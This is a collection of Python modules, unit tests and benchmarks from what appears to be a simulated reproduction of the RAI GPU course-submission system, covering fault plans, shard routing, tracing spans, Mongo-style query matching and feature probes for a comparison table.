    serial = baseline_cpu.time_for(
        net.total_flops(batch), net.total_bytes(batch),
        efficiency=BASELINE_CPU_EFFICIENCY) * SERIAL_COEF * (1.0 - q) ** 4
    return job_overhead(batch, on_gpu=True) + serial + kernels


def kernel_timeline(device: GPUDevice, batch: int,
                    quality: float, network: Network = None) -> List[dict]:
    """Per-kernel rows as an ``nvprof``-style timeline table."""
    net = network or build_ece408_network()
    profile = KernelProfile.from_quality(quality)
    rows = []
    t = 0.0
    for cost in net.layer_costs(batch):
        if cost["flops"] == 0 and cost["bytes"] == 0:
            continue
        dt = estimate_kernel_time(device, cost["flops"], cost["bytes"], profile)
        rows.append({
            "start": t,
            "duration": dt,
            "name": f"{cost['name']}_kernel",
            "flops": cost["flops"],
            "bytes": cost["bytes"],
        })
        t += dt
    return rows
