"""Declarative fault plans.

A :class:`FaultPlan` lists *what* should go wrong and *when*; the
:class:`~repro.faults.injector.FaultInjector` turns it into kernel
processes and hooks.  All randomness (crash instants, drop decisions,
delay draws) comes from named ``system.rng.stream("faults:...")`` streams,
so a chaos run is exactly as reproducible as a clean one.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Optional, Tuple

ALWAYS: Tuple[float, float] = (0.0, math.inf)


def _check_window(window: Tuple[float, float], what: str) -> None:
    lo, hi = window
    if lo < 0 or hi < lo:
        raise ValueError(f"{what}: window must satisfy 0 <= start <= end, "
                         f"got {window}")


def _check_rate(rate: float, what: str) -> None:
    if not 0.0 <= rate <= 1.0:
        raise ValueError(f"{what}: rate must be in [0, 1], got {rate}")


@dataclass(frozen=True)
class WorkerCrashFault:
    """Kill (or gracefully stop) one worker at a random instant."""

    #: The crash instant is drawn uniformly from this window.
    window: Tuple[float, float] = (0.0, 60.0)
    #: Specific worker id to target; default picks a random *busy* worker
    #: (falling back to any running one) at the drawn instant.
    worker_id: Optional[str] = None
    #: ``"crash"`` (acks nothing; the caretaker must redeliver) or
    #: ``"stop"`` (graceful scale-in; the worker reports its own failure).
    mode: str = "crash"
    #: Seconds after the crash at which replacement capacity arrives
    #: (``system.add_worker()``); ``None`` = no replacement.
    restart_after: Optional[float] = None

    def __post_init__(self):
        _check_window(self.window, "WorkerCrashFault")
        if self.mode not in ("crash", "stop"):
            raise ValueError(f"mode must be 'crash' or 'stop', "
                             f"got {self.mode!r}")
        if math.isinf(self.window[1]):
            raise ValueError("WorkerCrashFault needs a finite window")


@dataclass(frozen=True)
class StorageFault:
    """Transient object-store failures (raised as TransientStorageError)."""

    #: Which operations fail: ``"get"``, ``"put"`` or ``"any"``.
    op: str = "get"
    #: Deterministic part: the first N calls for each (op, bucket, key)
    #: fail — the canonical retry-then-succeed shape.
    failures_per_key: int = 0
    #: Random part: additional per-call failure probability.
    rate: float = 0.0
    window: Tuple[float, float] = ALWAYS
    #: Restrict to one bucket; ``None`` = all buckets.
    bucket: Optional[str] = None

    def __post_init__(self):
        if self.op not in ("get", "put", "any"):
            raise ValueError(f"op must be 'get', 'put' or 'any', "
                             f"got {self.op!r}")
        if self.failures_per_key < 0:
            raise ValueError("failures_per_key must be >= 0")
        _check_rate(self.rate, "StorageFault")
        _check_window(self.window, "StorageFault")


@dataclass(frozen=True)
class BrokerFault:
    """Broker delivery mischief: delay or drop published messages."""

    #: Topic whose publishes are affected (``"rai"`` = the task queue).
    topic: str = "rai"
    #: Per-publish probability of silently dropping the message.
    drop_rate: float = 0.0
    #: Per-publish probability of delaying delivery...
    delay_rate: float = 0.0
    #: ...by a uniform draw from this range of seconds.
    delay_range: Tuple[float, float] = (0.0, 0.0)
    window: Tuple[float, float] = ALWAYS

    def __post_init__(self):
        _check_rate(self.drop_rate, "BrokerFault")
        _check_rate(self.delay_rate, "BrokerFault")
        _check_window(self.window, "BrokerFault")
        lo, hi = self.delay_range
        if lo < 0 or hi < lo:
            raise ValueError(f"delay_range must satisfy 0 <= lo <= hi, "
                             f"got {self.delay_range}")


@dataclass(frozen=True)
class ContainerKillFault:
    """Kill a container mid-command (simulated docker daemon OOM-kill)."""

    #: Per-command probability of the container dying before the command.
    rate: float = 0.1
    window: Tuple[float, float] = ALWAYS

    def __post_init__(self):
        _check_rate(self.rate, "ContainerKillFault")
        _check_window(self.window, "ContainerKillFault")


@dataclass(frozen=True)
class FaultPlan:
    """Everything that will go wrong in one chaos run."""

    worker_crashes: Tuple[WorkerCrashFault, ...] = ()
    storage_faults: Tuple[StorageFault, ...] = ()
    broker_faults: Tuple[BrokerFault, ...] = ()
    container_kills: Tuple[ContainerKillFault, ...] = ()

    def __post_init__(self):
        # Accept lists for convenience; store tuples (hashable, immutable).
        for name in ("worker_crashes", "storage_faults", "broker_faults",
                     "container_kills"):
            object.__setattr__(self, name, tuple(getattr(self, name)))

    @property
    def is_empty(self) -> bool:
        return not (self.worker_crashes or self.storage_faults
                    or self.broker_faults or self.container_kills)

    def describe(self) -> str:
        parts = []
        if self.worker_crashes:
            parts.append(f"{len(self.worker_crashes)} worker crash(es)")
        if self.storage_faults:
            parts.append(f"{len(self.storage_faults)} storage fault(s)")
        if self.broker_faults:
            parts.append(f"{len(self.broker_faults)} broker fault(s)")
        if self.container_kills:
            parts.append(f"{len(self.container_kills)} container kill(s)")
        return "FaultPlan(" + (", ".join(parts) or "empty") + ")"
