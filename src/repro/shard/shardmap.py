"""The shard map: stable, seeded hash partitioning of team keys.

Both planes route through the same map — a team's task messages go to
broker topic ``tasks.p{K}`` and its submission records to docdb collection
``{base}.p{K}`` for the same ``K`` — so the single-shard fast path holds
end to end: claim a team's job, record its submission, and query its
history without ever crossing a partition boundary.

The hash must be *stable* (the same key maps to the same partition in
every process, every session, and after every restore — partition
placement is durable state) and *seeded* (a deployment can re-key the map
to break an adversarial or accidentally skewed key population without
code changes).  Python's builtin ``hash`` is neither (``PYTHONHASHSEED``),
so the map uses keyed blake2b.
"""

from __future__ import annotations

import hashlib
from typing import List, Tuple


class ShardMap:
    """Hash-partitions routing keys into ``n_partitions`` stable buckets."""

    __slots__ = ("n_partitions", "seed", "_hash_key")

    #: Partitioned task topics are ``tasks.p0 .. tasks.p{N-1}``; each has
    #: one competing-consumer channel of the same name as the legacy
    #: ``rai/tasks`` route.
    TOPIC_PREFIX = "tasks"
    CHANNEL = "tasks"

    def __init__(self, n_partitions: int, seed: int = 0):
        if n_partitions < 1:
            raise ValueError("n_partitions must be >= 1")
        if seed < 0:
            raise ValueError("seed must be >= 0")
        self.n_partitions = n_partitions
        self.seed = seed
        self._hash_key = seed.to_bytes(8, "big")

    # -- key → partition ----------------------------------------------------

    def partition(self, key) -> int:
        """The partition owning ``key`` (any value; hashed as text)."""
        if not isinstance(key, str):
            key = "" if key is None else str(key)
        digest = hashlib.blake2b(key.encode("utf-8"), digest_size=8,
                                 key=self._hash_key).digest()
        return int.from_bytes(digest, "big") % self.n_partitions

    @staticmethod
    def key_of(doc: dict, fields: Tuple[str, ...] = ("team", "username")) -> str:
        """The routing key of a document/message body.

        First truthy of ``fields`` — the same precedence the fair-share
        scheduler uses for its per-team accounting, so queue placement
        and scheduling agree on who a job belongs to.
        """
        for field in fields:
            value = doc.get(field)
            if value:
                return value if isinstance(value, str) else str(value)
        return ""

    def partition_of(self, doc: dict) -> int:
        return self.partition(self.key_of(doc))

    # -- partition → names --------------------------------------------------

    def topic(self, partition: int) -> str:
        """Broker topic name for ``partition`` (``tasks.p3``)."""
        self._check(partition)
        return f"{self.TOPIC_PREFIX}.p{partition}"

    def route(self, partition: int) -> str:
        """Full broker route for ``partition`` (``tasks.p3/tasks``)."""
        return f"{self.topic(partition)}/{self.CHANNEL}"

    def collection(self, base: str, partition: int) -> str:
        """Physical docdb collection name (``submissions.p3``)."""
        self._check(partition)
        return f"{base}.p{partition}"

    def partitions(self) -> range:
        return range(self.n_partitions)

    def _check(self, partition: int) -> None:
        if not 0 <= partition < self.n_partitions:
            raise ValueError(f"partition {partition} out of range "
                             f"[0, {self.n_partitions})")

    # -- identity -----------------------------------------------------------

    def to_dict(self) -> dict:
        return {"n_partitions": self.n_partitions, "seed": self.seed}

    def __eq__(self, other):
        return (isinstance(other, ShardMap)
                and self.n_partitions == other.n_partitions
                and self.seed == other.seed)

    def __hash__(self):
        return hash((self.n_partitions, self.seed))

    def __repr__(self):
        return f"ShardMap(n_partitions={self.n_partitions}, seed={self.seed})"


class Router:
    """Publish-time routing: fair-share key → (partition, topic).

    A thin counting wrapper over :class:`ShardMap` — the message plane
    routes through it so per-partition routed totals are observable
    (``rai shards``, the skew gauges) without touching the map itself.
    """

    __slots__ = ("shard_map", "routed")

    def __init__(self, shard_map: ShardMap):
        self.shard_map = shard_map
        #: Messages routed per partition since boot.
        self.routed: List[int] = [0] * shard_map.n_partitions

    def route(self, key) -> Tuple[int, str]:
        """Route ``key``; returns ``(partition, topic_name)``."""
        partition = self.shard_map.partition(key)
        self.routed[partition] += 1
        return partition, self.shard_map.topic(partition)

    def route_message(self, body: dict) -> Tuple[int, str]:
        return self.route(self.shard_map.key_of(body))
