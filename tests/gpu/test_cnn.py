"""Unit tests for the CNN workload (the genuine numerical path)."""

import numpy as np
import pytest

from repro.gpu.cnn import (
    AvgPool2D,
    Conv2D,
    Dense,
    _conv2d_im2col,
    _conv2d_reference,
    accuracy,
    build_ece408_network,
    generate_dataset,
    generate_model_weights,
    infer,
)


class TestConvImplementations:
    def test_reference_equals_im2col(self):
        rng = np.random.default_rng(1)
        x = rng.normal(size=(3, 4, 12, 12)).astype(np.float32)
        w = rng.normal(size=(6, 4, 5, 5)).astype(np.float32)
        b = rng.normal(size=6).astype(np.float32)
        ref = _conv2d_reference(x, w, b)
        fast = _conv2d_im2col(x, w, b)
        assert ref.shape == fast.shape == (3, 6, 8, 8)
        np.testing.assert_allclose(ref, fast, rtol=1e-4, atol=1e-4)

    def test_known_value(self):
        """A hand-checkable 1x1-channel case: 2x2 ones kernel = box sum."""
        x = np.arange(16, dtype=np.float32).reshape(1, 1, 4, 4)
        w = np.ones((1, 1, 2, 2), dtype=np.float32)
        b = np.zeros(1, dtype=np.float32)
        out = _conv2d_im2col(x, w, b)
        expected = np.array([[10, 14, 18], [26, 30, 34], [42, 46, 50]],
                            dtype=np.float32)
        np.testing.assert_allclose(out[0, 0], expected)

    def test_bias_applied(self):
        x = np.zeros((1, 1, 3, 3), dtype=np.float32)
        w = np.zeros((2, 1, 3, 3), dtype=np.float32)
        b = np.array([1.5, -2.0], dtype=np.float32)
        out = _conv2d_reference(x, w, b)
        assert out[0, 0, 0, 0] == 1.5
        assert out[0, 1, 0, 0] == -2.0


class TestLayers:
    def test_avgpool(self):
        x = np.arange(16, dtype=np.float32).reshape(1, 1, 4, 4)
        out = AvgPool2D("p", size=2).forward(x, {}, "im2col")
        expected = np.array([[2.5, 4.5], [10.5, 12.5]], dtype=np.float32)
        np.testing.assert_allclose(out[0, 0], expected)

    def test_conv_flop_count(self):
        conv = Conv2D("c", in_channels=2, out_channels=3, kernel=3)
        # 2 * batch * cout * oh * ow * cin * k * k
        assert conv.flops(5, 5, batch=4) == 2 * 4 * 3 * 3 * 3 * 2 * 9

    def test_dense_flops(self):
        d = Dense("d", in_features=10, out_features=4)
        assert d.flops(0, 0, batch=2) == 2 * 2 * 10 * 4

    def test_network_shape_tracking(self):
        net = build_ece408_network()
        costs = net.layer_costs(batch=1)
        names = [c["name"] for c in costs]
        assert names[0] == "conv1" and "fc2" in names
        assert net.total_flops(10) == 10 * net.total_flops(1)


class TestDatasetAndWeights:
    def test_weights_deterministic(self):
        w1 = generate_model_weights(seed=408)
        w2 = generate_model_weights(seed=408)
        for key in w1:
            np.testing.assert_array_equal(w1[key], w2[key])

    def test_weights_cover_all_layers(self):
        weights = generate_model_weights()
        assert {"conv1.weight", "conv1.bias", "conv2.weight", "fc1.weight",
                "fc2.bias"} <= set(weights)

    def test_dataset_labels_from_reference_network(self):
        """A correct implementation must score 100% by construction."""
        images, labels = generate_dataset(16)
        weights = generate_model_weights()
        for impl in ("reference", "im2col"):
            logits = infer(images, weights, impl=impl)
            assert accuracy(logits, labels) == 1.0

    def test_wrong_weights_lose_accuracy(self):
        images, labels = generate_dataset(32)
        bad = generate_model_weights(seed=999)
        acc = accuracy(infer(images, bad, impl="im2col"), labels)
        assert acc < 0.8

    def test_dataset_shapes(self):
        images, labels = generate_dataset(5)
        assert images.shape == (5, 1, 28, 28)
        assert labels.shape == (5,)
        assert images.dtype == np.float32


class TestAccuracy:
    def test_perfect(self):
        logits = np.eye(10, dtype=np.float32)[:4] * 5
        assert accuracy(logits, np.arange(4)) == 1.0

    def test_half(self):
        logits = np.zeros((2, 10), dtype=np.float32)
        logits[0, 3] = 1
        logits[1, 0] = 1
        assert accuracy(logits, np.array([3, 7])) == 0.5

    def test_empty(self):
        assert accuracy(np.zeros((0, 10)), np.zeros(0)) == 0.0
