"""Unit tests for the Torque/PBS batch-cluster model."""

import pytest

from repro.baselines import TorqueCluster
from repro.sim import Simulator


@pytest.fixture
def sim():
    return Simulator()


class TestBatchQueue:
    def test_qsub_runs_fifo(self, sim):
        cluster = TorqueCluster(sim, nodes=1)
        a = cluster.qsub("alice", service_seconds=10)
        b = cluster.qsub("bob", service_seconds=10)
        sim.run()
        assert a.queue_wait == 0.0
        assert b.queue_wait == 10.0
        assert b.finished_at == 20.0

    def test_parallel_nodes(self, sim):
        cluster = TorqueCluster(sim, nodes=4)
        jobs = [cluster.qsub(f"u{i}", 10) for i in range(4)]
        sim.run()
        assert all(j.queue_wait == 0.0 for j in jobs)

    def test_qstat(self, sim):
        cluster = TorqueCluster(sim, nodes=1)
        cluster.qsub("a", 10)
        cluster.qsub("b", 10)
        assert cluster.qstat()["queued"] + cluster.qstat()["running"] == 2
        sim.run()
        assert cluster.qstat()["completed"] == 2

    def test_fixed_capacity_cannot_scale(self, sim):
        cluster = TorqueCluster(sim, nodes=8)
        assert cluster.add_capacity(10) == 0
        assert cluster.capacity() == 8

    def test_oversubscription_grows_waits(self, sim):
        """§III: near deadlines 'the cluster queue can become long'."""
        cluster = TorqueCluster(sim, nodes=2)
        jobs = [cluster.qsub(f"u{i}", 60) for i in range(20)]
        sim.run()
        waits = [j.queue_wait for j in jobs]
        assert max(waits) >= 60 * (20 / 2 - 1)
        assert waits == sorted(waits)   # FIFO fairness
