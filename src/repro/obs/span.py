"""Sim-clock spans: one timed operation inside a trace.

A span is passive — it never schedules simulator events, so tracing can
be toggled without perturbing a run's event order (the overhead smoke
test asserts exactly this).  Timestamps come from the tracer's clock
(simulated seconds).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.obs.context import TraceContext, new_span_id


class SpanStatus:
    """String constants (kept JSON-trivial on purpose)."""

    UNSET = "unset"
    OK = "ok"
    ERROR = "error"


class Span:
    """One named, timed operation with attributes and point events."""

    __slots__ = ("name", "kind", "trace_id", "span_id", "parent_id",
                 "start_time", "end_time", "status", "status_message",
                 "attributes", "events", "_tracer")

    def __init__(self, name: str, trace_id: str,
                 parent_id: Optional[str] = None,
                 kind: str = "internal",
                 start_time: float = 0.0,
                 attributes: Optional[dict] = None,
                 tracer=None):
        self.name = name
        self.kind = kind
        self.trace_id = trace_id
        self.span_id = new_span_id()
        self.parent_id = parent_id
        self.start_time = float(start_time)
        self.end_time: Optional[float] = None
        self.status = SpanStatus.UNSET
        self.status_message: Optional[str] = None
        self.attributes: Dict[str, object] = dict(attributes or {})
        #: ``(time, name, fields)`` point events (retries, faults, ...).
        self.events: List[Tuple[float, str, dict]] = []
        self._tracer = tracer

    # -- identity ------------------------------------------------------------

    @property
    def context(self) -> TraceContext:
        """Context downstream spans parent on."""
        return TraceContext(trace_id=self.trace_id, span_id=self.span_id,
                            parent_id=self.parent_id)

    def headers(self) -> dict:
        """Message headers propagating this span as the remote parent."""
        return self.context.to_headers()

    # -- state ------------------------------------------------------------

    @property
    def is_open(self) -> bool:
        return self.end_time is None

    @property
    def duration(self) -> Optional[float]:
        if self.end_time is None:
            return None
        return self.end_time - self.start_time

    def set_attribute(self, key: str, value) -> "Span":
        self.attributes[key] = value
        if key == "job_id" and self._tracer is not None:
            self._tracer.store.bind_job(value, self.trace_id)
        return self

    def add_event(self, name: str, **fields) -> "Span":
        at = self._tracer.clock() if self._tracer is not None \
            else self.start_time
        self.events.append((at, name, fields))
        return self

    def end(self, status: Optional[str] = None,
            message: Optional[str] = None,
            at: Optional[float] = None) -> None:
        """Close the span (idempotent — later calls are ignored)."""
        if self.end_time is not None:
            return
        if at is None:
            at = self._tracer.clock() if self._tracer is not None \
                else self.start_time
        self.end_time = float(at)
        if status is not None:
            self.status = status
        elif self.status is SpanStatus.UNSET:
            self.status = SpanStatus.OK
        if message is not None:
            self.status_message = message
        if self._tracer is not None:
            self._tracer.store.note_end(self)

    # -- context manager ------------------------------------------------------

    def __enter__(self) -> "Span":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        if exc is not None:
            self.end(status=SpanStatus.ERROR,
                     message=f"{type(exc).__name__}: {exc}")
        else:
            self.end()
        return False

    # -- export ------------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "kind": self.kind,
            "start": self.start_time,
            "end": self.end_time,
            "duration": self.duration,
            "status": self.status,
            "status_message": self.status_message,
            "attributes": dict(self.attributes),
            "events": [{"t": t, "name": n, "fields": f}
                       for t, n, f in self.events],
        }

    def __repr__(self):
        state = "open" if self.is_open else f"{self.duration:.3f}s"
        return (f"<Span {self.span_id} {self.name!r} trace={self.trace_id} "
                f"{state}>")


class NoopSpan:
    """The span returned when tracing is disabled.

    Implements the full Span surface as no-ops so call sites never branch
    on whether tracing is on — the overhead of a disabled tracer is one
    attribute check plus this object's method dispatch.
    """

    __slots__ = ()

    name = "noop"
    kind = "noop"
    trace_id = None
    span_id = None
    parent_id = None
    start_time = 0.0
    end_time = 0.0
    status = SpanStatus.UNSET
    status_message = None
    attributes: dict = {}
    events: list = []
    is_open = False
    duration = 0.0
    context = None

    def headers(self) -> None:
        return None

    def set_attribute(self, key, value) -> "NoopSpan":
        return self

    def add_event(self, name, **fields) -> "NoopSpan":
        return self

    def end(self, status=None, message=None, at=None) -> None:
        return None

    def to_dict(self) -> dict:
        return {}

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


#: Shared instance — NoopSpan carries no state.
NOOP_SPAN = NoopSpan()
