"""Query matching: a faithful subset of the MongoDB filter language."""

from __future__ import annotations

import re
from typing import Any

from repro.errors import InvalidQuery

_MISSING = object()


def get_path(doc: Any, path: str) -> Any:
    """Resolve a dotted path; returns the ``_MISSING`` sentinel if absent.

    Integer components index into lists (``"results.0.time"``).
    """
    current = doc
    for part in path.split("."):
        if isinstance(current, dict):
            if part not in current:
                return _MISSING
            current = current[part]
        elif isinstance(current, list):
            try:
                current = current[int(part)]
            except (ValueError, IndexError):
                return _MISSING
        else:
            return _MISSING
    return current


def path_exists(doc: Any, path: str) -> bool:
    return get_path(doc, path) is not _MISSING


_COMPARATORS = {
    "$eq": lambda a, b: _values_equal(a, b),
    "$ne": lambda a, b: not _values_equal(a, b),
    "$gt": lambda a, b: _ordered(a, b) and a > b,
    "$gte": lambda a, b: _ordered(a, b) and a >= b,
    "$lt": lambda a, b: _ordered(a, b) and a < b,
    "$lte": lambda a, b: _ordered(a, b) and a <= b,
}


def _ordered(a, b) -> bool:
    """True when ``a`` and ``b`` are mutually order-comparable."""
    if a is _MISSING or a is None or b is None:
        return False
    num = (int, float, bool)
    if isinstance(a, num) and isinstance(b, num):
        return True
    return type(a) is type(b) and isinstance(a, (str, int, float, list, tuple))


def _values_equal(a, b) -> bool:
    if a is _MISSING:
        return b is None  # Mongo: missing field equals null
    if isinstance(a, list) and not isinstance(b, list):
        # array membership: {tags: "gpu"} matches tags=["gpu", "cuda"]
        return any(_values_equal(item, b) for item in a)
    return a == b


def _match_condition(value: Any, condition: Any) -> bool:
    """Match one field value against a condition (literal or operator doc)."""
    if isinstance(condition, dict) and condition and \
            all(isinstance(k, str) and k.startswith("$") for k in condition):
        for op, operand in condition.items():
            if op in _COMPARATORS:
                if not _COMPARATORS[op](value, operand):
                    return False
            elif op == "$in":
                if not isinstance(operand, (list, tuple)):
                    raise InvalidQuery("$in requires a list")
                if not any(_values_equal(value, item) for item in operand):
                    return False
            elif op == "$nin":
                if not isinstance(operand, (list, tuple)):
                    raise InvalidQuery("$nin requires a list")
                if any(_values_equal(value, item) for item in operand):
                    return False
            elif op == "$exists":
                if bool(operand) != (value is not _MISSING):
                    return False
            elif op == "$regex":
                if value is _MISSING or not isinstance(value, str):
                    return False
                if not re.search(operand, value):
                    return False
            elif op == "$size":
                if not isinstance(value, list) or len(value) != operand:
                    return False
            elif op == "$not":
                if _match_condition(value, operand):
                    return False
            elif op == "$elemMatch":
                if not isinstance(value, list):
                    return False
                if not any(
                    match_document(item, operand) if isinstance(item, dict)
                    else _match_condition(item, operand)
                    for item in value
                ):
                    return False
            else:
                raise InvalidQuery(f"unsupported operator {op!r}")
        return True
    # literal comparison
    return _values_equal(value, condition)


def match_document(doc: dict, query: dict) -> bool:
    """True if ``doc`` satisfies the Mongo-style ``query``."""
    if not isinstance(query, dict):
        raise InvalidQuery(f"query must be a dict, got {type(query).__name__}")
    for key, condition in query.items():
        if key == "$and":
            if not all(match_document(doc, sub) for sub in condition):
                return False
        elif key == "$or":
            if not any(match_document(doc, sub) for sub in condition):
                return False
        elif key == "$nor":
            if any(match_document(doc, sub) for sub in condition):
                return False
        elif key.startswith("$"):
            raise InvalidQuery(f"unsupported top-level operator {key!r}")
        else:
            if not _match_condition(get_path(doc, key), condition):
                return False
    return True
