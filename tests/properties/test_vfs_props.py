"""Property-based tests for the virtual filesystem and archives."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.vfs import VirtualFileSystem, pack_tree, unpack_tree
from repro.vfs.path import is_within, join, normalize, split_parts

path_segments = st.text(
    alphabet=st.characters(whitelist_categories=("Ll", "Nd"),
                           max_codepoint=122),
    min_size=1, max_size=8,
)
rel_paths = st.lists(path_segments, min_size=1, max_size=4).map("/".join)
file_bodies = st.binary(max_size=200)
trees = st.dictionaries(rel_paths, file_bodies, min_size=0, max_size=8)


class TestPathProperties:
    @given(raw=st.text(max_size=40))
    def test_normalize_is_idempotent(self, raw):
        once = normalize(raw)
        assert normalize(once) == once

    @given(raw=st.text(max_size=40))
    def test_normalized_is_absolute_and_clean(self, raw):
        norm = normalize(raw)
        assert norm.startswith("/")
        assert "//" not in norm
        assert ".." not in split_parts(norm)

    @given(base=rel_paths, child=path_segments)
    def test_join_child_is_within_base(self, base, child):
        joined = join("/" + base, child)
        assert is_within(joined, "/" + base)

    @given(path=rel_paths)
    def test_split_then_rejoin(self, path):
        norm = normalize(path)
        assert "/" + "/".join(split_parts(norm)) == norm


def _prefix_free(tree: dict) -> bool:
    """No key is a directory-prefix of another (a path cannot be both a
    file and a directory)."""
    keys = sorted(tree)
    return not any(b.startswith(a + "/") for a, b in zip(keys, keys[1:]))


class TestFilesystemProperties:
    @settings(max_examples=40)
    @given(tree=trees.filter(_prefix_free))
    def test_import_export_roundtrip(self, tree):
        fs = VirtualFileSystem()
        fs.import_mapping(tree, "/proj")
        assert fs.export_mapping("/proj") == tree

    @settings(max_examples=40)
    @given(tree=st.dictionaries(path_segments, file_bodies, max_size=8))
    def test_flat_tree_exact_roundtrip(self, tree):
        fs = VirtualFileSystem()
        fs.import_mapping(tree, "/p")
        assert fs.export_mapping("/p") == tree
        assert fs.file_count("/p") == len(tree)
        assert fs.tree_size("/p") == sum(len(v) for v in tree.values())

    @settings(max_examples=40)
    @given(tree=st.dictionaries(path_segments, file_bodies, max_size=8))
    def test_copy_preserves_content(self, tree):
        fs = VirtualFileSystem()
        fs.import_mapping(tree, "/src")
        fs.copy("/src", "/dst")
        assert fs.export_mapping("/dst") == fs.export_mapping("/src")


class TestArchiveProperties:
    @settings(max_examples=25, deadline=None)
    @given(tree=st.dictionaries(path_segments, file_bodies, max_size=6))
    def test_pack_unpack_roundtrip(self, tree):
        fs = VirtualFileSystem()
        fs.import_mapping(tree, "/")
        blob = pack_tree(fs, "/")
        out = VirtualFileSystem()
        unpack_tree(blob, out, "/")
        assert out.export_mapping("/") == tree

    @settings(max_examples=25, deadline=None)
    @given(tree=st.dictionaries(path_segments, file_bodies,
                                min_size=1, max_size=6))
    def test_pack_deterministic(self, tree):
        fs = VirtualFileSystem()
        fs.import_mapping(tree, "/")
        assert pack_tree(fs, "/") == pack_tree(fs, "/")
