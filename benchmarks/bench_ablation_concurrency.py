"""Ablation — single-job vs multi-job workers: timing accuracy.

Paper (§V, Worker Operations): "In the last two weeks of the project ...
the worker accepts only one task at a time — this makes the performance
timing more accurate and repeatable."  And (§VII): early on, "we were able
to improve performance consistency by restricting a RAI worker to run a
single job at a time"; later, multi-job workers give throughput when CPU
time dominates.

Measured: the same submission replayed many times on (a) a single-job
worker and (b) a 4-jobs-in-flight worker under co-running load.  The
figure of merit is the coefficient of variation of the reported internal
timer.
"""

import numpy as np

from benchmarks.conftest import print_banner
from repro.core.config import WorkerConfig
from repro.core.job import JobStatus
from repro.core.system import RaiSystem

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}
REPETITIONS = 12


def measure(max_concurrent: int, seed: int = 17):
    system = RaiSystem(seed=seed)
    system.add_worker(WorkerConfig(max_concurrent_jobs=max_concurrent))
    # Background teams keep the worker's other slots busy.
    noise_clients = []
    for i in range(max_concurrent - 1):
        c = system.new_client(team=f"noise-{i}")
        c.stage_project(FILES)
        noise_clients.append(c)

    def noise_loop(client):
        while True:
            result = yield from client.submit()
            yield system.sim.timeout(35.0)

    for c in noise_clients:
        system.sim.process(noise_loop(c))

    timer_values = []
    team = system.new_client(team="measured-team")
    team.stage_project(FILES)

    def measured(sim):
        for _ in range(REPETITIONS):
            result = yield from team.submit()
            if result.status is JobStatus.SUCCEEDED and \
                    result.internal_time is not None:
                timer_values.append(result.internal_time)
            yield sim.timeout(40.0)

    system.run(measured(system.sim))
    return np.asarray(timer_values)


def test_ablation_single_vs_multi_job_timing(benchmark):
    def experiment():
        return measure(1), measure(4)

    solo, contended = benchmark.pedantic(experiment, rounds=1, iterations=1)

    def cv(x):
        return float(np.std(x) / np.mean(x))

    print_banner("Ablation — timing repeatability: 1 vs 4 jobs in flight")
    print(f"single-job worker : n={len(solo)} "
          f"mean={solo.mean():.3f}s  cv={cv(solo) * 100:.1f}%")
    print(f"4-job worker      : n={len(contended)} "
          f"mean={contended.mean():.3f}s  cv={cv(contended) * 100:.1f}%")
    print("\npaper: single-job mode was required for 'accurate and "
          "repeatable' benchmark timing in the final weeks")

    assert len(solo) == REPETITIONS
    assert len(contended) >= REPETITIONS // 2
    # Contention inflates both the spread and the mean.
    assert cv(contended) > 2 * cv(solo)
    assert contended.mean() > solo.mean()
    # Solo timing is tight enough to rank sub-second differences.
    assert cv(solo) < 0.03
