"""Deriving Table I by probing each system."""

from __future__ import annotations

from typing import Dict, List

from repro.baselines.base import BaselineJob, SubmissionSystem

FEATURES = ("Configurability", "Isolation", "Scalability",
            "Accessibility", "Testing Uniformity")

#: Expected Table I values, for the benchmark's paper-vs-measured check.
PAPER_TABLE_1: Dict[str, Dict[str, bool]] = {
    "Student-Provided": {"Configurability": True, "Isolation": True,
                         "Scalability": True, "Accessibility": False,
                         "Testing Uniformity": False},
    "Torque/PBS": {"Configurability": True, "Isolation": True,
                   "Scalability": True, "Accessibility": True,
                   "Testing Uniformity": False},
    "WebGPU": {"Configurability": False, "Isolation": True,
               "Scalability": True, "Accessibility": True,
               "Testing Uniformity": True},
    "Jenkins": {"Configurability": True, "Isolation": True,
                "Scalability": True, "Accessibility": False,
                "Testing Uniformity": True},
    "QwikLabs": {"Configurability": False, "Isolation": True,
                 "Scalability": True, "Accessibility": True,
                 "Testing Uniformity": False},
    "RAI": {"Configurability": True, "Isolation": True,
            "Scalability": True, "Accessibility": True,
            "Testing Uniformity": True},
}


def probe_configurability(system: SubmissionSystem) -> bool:
    """Submit a job demanding a custom image and profiler commands."""
    job = BaselineJob(
        owner="cfg-probe",
        image="webgpu/rai:minimal",
        commands=["cmake /src", "make",
                  "nvprof --export-profile timeline.nvprof "
                  "./ece408 /data/test10.hdf5 /data/model.hdf5"],
        # Configurability is about toolchain control, not GPU ownership —
        # the accessibility probe covers hardware.
        needs_gpu=False,
    )
    outcome = system.submit(job)
    return bool(outcome.accepted and outcome.ran_requested_commands
                and outcome.used_requested_image)


def probe_isolation(system: SubmissionSystem) -> bool:
    """Submit jobs that try to reach outside their own sandbox."""
    for mischief in ("read_other_user", "write_host", "network"):
        outcome = system.submit(BaselineJob(owner="iso-probe",
                                            mischief=mischief))
        if outcome.escaped_sandbox:
            return False
    return True


def probe_scalability(system: SubmissionSystem,
                      burst: int = 20) -> bool:
    """Can the operator add meaningful capacity against a burst?"""
    before = system.capacity()
    added = system.add_capacity(burst)
    return added >= burst or before >= burst


def probe_accessibility(system: SubmissionSystem) -> bool:
    """Remote student, no GPU of their own, no local infrastructure."""
    if not system.remote_accessible_without_hardware:
        return False
    outcome = system.submit(BaselineJob(owner="remote-probe",
                                        needs_gpu=True))
    return bool(outcome.accepted and outcome.had_gpu)


def probe_uniformity(system: SubmissionSystem) -> bool:
    """Does grading run through a staff-enforced identical procedure,
    even when the student supplies their own build steps?"""
    job = BaselineJob(owner="uni-probe",
                      commands=["echo my-own-procedure"])
    outcome = system.grading_run(job)
    return bool(outcome.enforced_grading_procedure)


_PROBES = {
    "Configurability": probe_configurability,
    "Isolation": probe_isolation,
    "Scalability": probe_scalability,
